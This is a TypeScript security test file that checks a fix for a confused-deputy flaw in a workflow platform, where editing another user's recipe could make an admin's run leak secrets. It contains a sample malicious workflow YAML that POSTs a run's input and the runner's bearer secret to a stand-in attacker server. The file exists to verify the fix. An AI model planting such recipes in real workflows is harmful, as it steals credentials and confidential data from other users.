/**
 * Issue 15, path 2 — confused deputy through recipe versions. A run acts as its starter, but
 * the recipe is written by someone else: before the fix any member could save a new version
 * of (or delete) a workflow someone else owns, and a run by an admin then resolved the
 * recipe's secrets and credentials with the *admin's* rights — personal secrets and keys
 * included (names resolve personal → workspace → org, so a name the author meant as their own
 * secret resolves to the admin's). Played end to end against the real runtime with recording
 * servers on loopback standing for the service a secret is sealed for.
 */
import { afterEach, describe, expect, it } from 'vitest'
import { insertToken } from '../../src/identity/tokens-repo.js'
import { DIALECTS } from '../helpers.js'
import { addUser, canaryKey, createCredential, type TestUser } from '../vault/vault-helpers.js'
import { createE2eEnv, type E2eEnv } from '../workflows/e2e-env.js'
import { type Attacker, startAttacker } from './attacker.js'
import { allowPrivateOrigins, createWorkspace, runWorkflow } from './security-helpers.js'

type Headers = { authorization: string }

describe.each(DIALECTS)('workflow recipe versions as a confused deputy (%s)', (dialect) => {
  let env: E2eEnv
  let attacker: Attacker
  afterEach(async () => {
    await env?.close()
    await attacker?.close()
  })

  async function save(h: Headers, yaml: string) {
    return env.app.inject({ method: 'POST', url: '/api/v1/workflows', headers: h, payload: { yaml } })
  }

  const run = (h: Headers, workflowId: string, inputs: Record<string, unknown> = {}) =>
    runWorkflow(env, h, workflowId, inputs)

  /** A personal http-secret of `who` named `name`, sealed for `origin`. */
  async function personalSecret(who: TestUser, name: string, value: string, origin: string) {
    await allowPrivateOrigins(env, origin)
    const r = await createCredential(env, who.headers, {
      name,
      provider: 'http-secret',
      apiKey: value,
      origins: [origin],
      scope: 'personal',
    })
    expect(r.status, r.body).toBe(201)
  }

  it('a member cannot save a version of, or delete, a workflow someone else created', async () => {
    env = await createE2eEnv(dialect)
    attacker = await startAttacker()
    const admin = await addUser(env, 'admin')
    const member = await addUser(env, 'member')
    const adminSecret = canaryKey('admin-hook')
    // The admin's own secret for a service; the attacker's server stands for that service.
    await personalSecret(admin, 'hook', adminSecret, attacker.origin)
    // The member's secret of the same name, so the member's save passes the manage check.
    await personalSecret(member, 'hook', canaryKey('member-hook'), attacker.origin)

    const v1 = `name: weekly\ninputs:\n  doc: { type: string }\nsteps:\n  - id: sum\n    model: oa/gpt-4o-mini\n    prompt: "Summarise {{ inputs.doc }}"\n`
    const saved = await save(admin.headers, v1)
    expect(saved.statusCode, saved.body).toBe(201)
    const wf = saved.json().id as string

    // The member rewrites the admin's recipe: the admin's next run would post the admin's
    // secret and the run's input to the attacker.
    const evil = `${v1}  - id: leak\n    tool: out\n    with: { doc: "{{ inputs.doc }}" }\ntools:\n  out: { method: POST, url: "${attacker.origin}/x", headers: { authorization: "Bearer {{ secrets.hook }}" } }\n`
    const put = await env.app.inject({
      method: 'PUT',
      url: `/api/v1/workflows/${wf}`,
      headers: member.headers,
      payload: { yaml: evil },
    })
    expect(put.statusCode, put.body).toBe(403)
    expect(put.json().error.message).toMatch(/creator/)

    const doc = canaryKey('confidential-doc')
    const r = await run(admin.headers, wf, { doc })
    expect(r.status, r.error).toBe('succeeded')
    expect(r.workflowVersion).toBe(1)
    expect(attacker.requests).toHaveLength(0)
    expect(attacker.saw(adminSecret)).toBe(false)
    expect(attacker.saw(doc)).toBe(false)

    // Nor delete it.
    const del = await env.app.inject({
      method: 'DELETE',
      url: `/api/v1/workflows/${wf}`,
      headers: member.headers,
    })
    expect(del.statusCode, del.body).toBe(403)

    // The creator, a workspace admin and org admins still may change it.
    const wsAdmin = await addUser(env, 'member', { workspaceRole: 'admin' })
    // An admin-role token of that user: its workspace role is admin, its org role member.
    const { raw } = await insertToken(env.rt.db.db, {
      orgId: env.orgId,
      workspaceId: env.workspaceId,
      userId: wsAdmin.userId,
      name: 'ws-admin',
      role: 'admin',
      createdBy: wsAdmin.userId,
    })
    for (const who of [admin.headers, { authorization: `Bearer ${raw}` }, env.auth('admin')]) {
      const ok = await env.app.inject({
        method: 'PUT',
        url: `/api/v1/workflows/${wf}`,
        headers: who,
        payload: { yaml: v1.replace('Summarise', 'Summarise again') },
      })
      expect(ok.statusCode, ok.body).toBe(200)
    }
  })

  it('a run may use only secrets the recipe version’s last editor may also use', async () => {
    env = await createE2eEnv(dialect)
    attacker = await startAttacker()
    const admin = await addUser(env, 'admin')
    const member = await addUser(env, 'member')
    const adminSecret = canaryKey('admin-hook')
    const memberSecret = canaryKey('member-hook')
    await personalSecret(admin, 'hook', adminSecret, attacker.origin)
    await personalSecret(member, 'hook', memberSecret, attacker.origin)

    // The member's own recipe, meaning their own `hook`.
    const yaml = `name: ping\nsteps:\n  - id: call\n    tool: out\n    with: { note: hi }\ntools:\n  out: { method: POST, url: "${attacker.origin}/in", headers: { authorization: "Bearer {{ secrets.hook }}" } }\n`
    const saved = await save(member.headers, yaml)
    expect(saved.statusCode, saved.body).toBe(201)
    const wf = saved.json().id as string

    // The admin runs it: `hook` resolves to the admin's own secret, which the member may not use.
    const r = await run(admin.headers, wf)
    expect(r.status).toBe('failed')
    expect(r.error).toMatch(/secret hook .*last editor/)
    expect(attacker.saw(adminSecret)).toBe(false)
    expect(attacker.requests).toHaveLength(0)

    // The member's own run works as before.
    const own = await run(member.headers, wf)
    expect(own.status, own.error).toBe('succeeded')
    expect(attacker.saw(memberSecret)).toBe(true)
    expect(attacker.saw(adminSecret)).toBe(false)

    // The token the member saved it with is revoked: nothing of theirs is vouched for any more.
    const seen = attacker.requests.length
    await env.rt.db.db
      .updateTable('access_tokens')
      .set({ revoked_at: Date.now() })
      .where('id', '=', member.tokenId)
      .execute()
    const after = await run(admin.headers, wf)
    expect(after.status).toBe('failed')
    expect(after.error).toMatch(/last editor can no longer act/)
    expect(attacker.requests).toHaveLength(seen)
  })

  it('a run may use only credentials the recipe version’s last editor may also use', async () => {
    env = await createE2eEnv(dialect)
    const admin = await addUser(env, 'admin')
    const member = await addUser(env, 'member')
    const adminKey = canaryKey('sk-admin')
    const memberKey = canaryKey('sk-member')
    await allowPrivateOrigins(env, env.openai.baseUrl)
    for (const [who, key] of [
      [admin, adminKey],
      [member, memberKey],
    ] as const) {
      const c = await createCredential(env, who.headers, {
        name: 'priv',
        provider: 'openai',
        apiKey: key,
        baseUrl: env.openai.baseUrl,
        scope: 'personal',
      })
      expect(c.status, c.body).toBe(201)
    }
    const yaml = `name: chat\nsteps:\n  - id: ask\n    model: priv/gpt-4o-mini\n    prompt: hello\n`
    const saved = await save(member.headers, yaml)
    expect(saved.statusCode, saved.body).toBe(201)
    const wf = saved.json().id as string

    const authOf = () => env.openai.requests.map((q) => String(q.headers.authorization))
    const r = await run(admin.headers, wf)
    expect(r.status).toBe('failed')
    expect(r.error).toMatch(/priv.*last editor/)
    expect(authOf()).not.toContain(`Bearer ${adminKey}`)

    // Through a route alias: a target the editor does not share is skipped like a lost one.
    const route = await env.app.inject({
      method: 'POST',
      url: '/api/v1/routes',
      headers: env.auth('admin'),
      payload: { alias: 'smart', targets: [{ model: 'priv/gpt-4o-mini' }] },
    })
    expect(route.statusCode, route.body).toBe(201)
    const viaRoute = await save(
      member.headers,
      yaml.replace('chat', 'chat2').replace('priv/gpt-4o-mini', 'smart'),
    )
    expect(viaRoute.statusCode, viaRoute.body).toBe(201)
    const rr = await run(admin.headers, viaRoute.json().id)
    expect(rr.status).toBe('failed')
    expect(rr.error).toMatch(/priv.*last editor/)
    expect(authOf()).not.toContain(`Bearer ${adminKey}`)

    // The member's own run uses the member's own key.
    await run(member.headers, wf)
    expect(authOf()).toContain(`Bearer ${memberKey}`)
    expect(authOf()).not.toContain(`Bearer ${adminKey}`)
  })

  it('a workspace recipe resolves secrets in its workspace, for its starter and its editor alike', async () => {
    env = await createE2eEnv(dialect)
    attacker = await startAttacker({ ok: true }) // here: the service the secret belongs to
    const w = await createWorkspace(env, 'ops')
    const value = canaryKey('ops-hook')
    const secret = await createCredential(env, env.auth('admin'), {
      name: 'hook',
      provider: 'http-secret',
      apiKey: value,
      origins: [attacker.origin],
      scope: 'workspace',
      workspaceId: w,
    })
    expect(secret.status, secret.body).toBe(201)
    // An org admin whose token acts in the default workspace writes the recipe for W…
    const editor = await addUser(env, 'admin')
    const yaml = `name: notify\nsteps:\n  - id: call\n    tool: out\n    with: { note: hi }\ntools:\n  out: { method: POST, url: "${attacker.origin}/in", headers: { authorization: "Bearer {{ secrets.hook }}" } }\n`
    const saved = await env.app.inject({
      method: 'POST',
      url: '/api/v1/workflows',
      headers: editor.headers,
      payload: { yaml, workspaceId: w },
    })
    expect(saved.statusCode, saved.body).toBe(201)
    // …and a member of W runs it: both resolve W's `hook`, so it goes out.
    const starter = await addUser(env, 'member', { workspaceId: w })
    const r = await run(starter.headers, saved.json().id)
    expect(r.status, r.error).toBe('succeeded')
    expect(attacker.saw(value)).toBe(true)
  })
})
